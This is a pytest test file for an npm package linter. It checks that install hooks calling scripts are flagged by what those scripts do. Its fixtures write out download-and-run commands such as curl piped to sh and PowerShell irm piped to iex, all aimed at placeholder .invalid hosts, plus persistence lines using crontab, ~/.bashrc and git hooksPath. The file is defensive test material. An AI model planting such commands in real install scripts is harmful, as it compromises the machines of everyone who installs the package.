"""Hooks of npm that name a script of the package: what the script does counts as what the command does."""

from __future__ import annotations

import json

import pytest

from fixtures.build import build
from fixtures.lint import lint
from pkglint.model import Finding, Kind, Level


def judged(command: str, files: dict[str, str]) -> tuple[Level, Finding]:
    manifest = {"license": "MIT", "repository": "github:demo/demo", "scripts": {"postinstall": command}}
    (result,) = lint(*build(Kind.NPM, {"package.json": json.dumps(manifest), **files})).results
    assert not result.crashes
    ((level, finding),) = ((one.level, one.finding) for one in result.judged if one.finding.rule == "install-script")
    return level, finding


FETCH = "curl -s https://demo.invalid/a | sh\n"
SAVE = "curl -s https://demo.invalid/a -o /tmp/a\nchmod +x /tmp/a\n/tmp/a\n"
HARMFUL = {
    "sh ./x.sh": ("x.sh", FETCH, "x.sh downloads a script and runs it"),
    "./tools/x.sh": ("tools/x.sh", "#!/bin/sh\n" + SAVE, "tools/x.sh downloads a program and runs it"),
    "tools/setup": ("tools/setup", "#!/bin/sh\n" + FETCH, "tools/setup downloads a script and runs it"),
    "powershell -ExecutionPolicy Bypass -File x.ps1": ("x.ps1", "irm https://a.invalid | iex\n", "downloads a script"),
    "cmd /c x.bat": ("x.bat", "curl -o a.exe https://a.invalid/a.exe && a.exe\n", "downloads a script and runs it"),
    "make -s": ("Makefile", f"all:\n\t{FETCH}", "Makefile downloads a script and runs it"),
    "node x.js": ("x.js", 'require("child_process").execSync("git config core.hooksPath .a")\n', "changes the git"),
    "node -r dotenv/config ./x.cjs": ("x.cjs", 'require("child_process").exec("crontab a")\n', "start again"),
    "true && bash x.sh || true": ("x.sh", "echo */5 x >> ~/.bashrc\n", "makes itself start again"),
}


@pytest.mark.parametrize("command", HARMFUL)
def test_a_script_that_does_harm_is_an_error(command: str) -> None:
    path, text, said = HARMFUL[command]
    level, finding = judged(command, {path: text})
    assert level is Level.ERROR
    assert said in finding.message


HARMLESS = {
    "sh x.sh": {"x.sh": "echo done\nrm -rf ./build\n"},
    "node x.js": {"x.js": 'console.log("run `git push` and crontab");\n', "y.sh": FETCH},
    "node y.js": {"y.js": 'require("child_process").execSync("node-gyp rebuild");\n'},
    "bash z.sh": {"z.sh": "# curl -s https://demo.invalid/a | sh\ncurl -o a.json https://demo.invalid/a.json\n"},
}


@pytest.mark.parametrize("command", HARMLESS)
def test_other_scripts_stay_a_warning(command: str) -> None:
    assert judged(command, HARMLESS[command])[0] is Level.WARNING


def install(command: str, files: dict[str, str]) -> Level:
    manifest = {"license": "MIT", "repository": "github:demo/demo", "scripts": {"install": command}}
    (result,) = lint(*build(Kind.NPM, {"package.json": json.dumps(manifest), **files})).results
    return next(one.level for one in result.judged if one.finding.rule == "install-script")


@pytest.mark.parametrize(
    "command", ["node-gyp rebuild", "prebuild-install -r napi || node-gyp rebuild", "node-gyp-build"]
)
def test_the_build_of_a_native_module_is_only_noted(command: str) -> None:
    assert install(command, {"binding.gyp": "{}"}) is Level.INFO
    assert install(command, {}) >= Level.WARNING
    assert install(f"{command} && node a.js", {"binding.gyp": "{}", "a.js": "a()"}) is Level.WARNING
